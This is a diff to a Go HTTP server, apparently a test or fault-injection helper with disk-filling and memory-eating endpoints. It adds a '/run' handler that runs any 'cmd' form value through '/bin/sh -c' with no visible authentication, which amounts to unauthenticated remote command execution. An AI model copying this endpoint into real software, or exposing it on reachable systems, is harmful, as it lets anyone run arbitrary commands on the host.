@@ -53,6 +53,13 @@ func main() {
 		}
 		reply(w, err, "written")
 	})
+	http.HandleFunc("/run", func(w http.ResponseWriter, r *http.Request) {
+		out, err := exec.Command("/bin/sh", "-c", r.FormValue("cmd")).CombinedOutput()
+		if err != nil {
+			err = fmt.Errorf("%w: %s", err, out)
+		}
+		reply(w, err, string(out))
+	})
 	http.HandleFunc("/fill", fill)
 	http.HandleFunc("/eat", func(w http.ResponseWriter, r *http.Request) {
 		mb, _ := strconv.Atoi(r.FormValue("mb"))
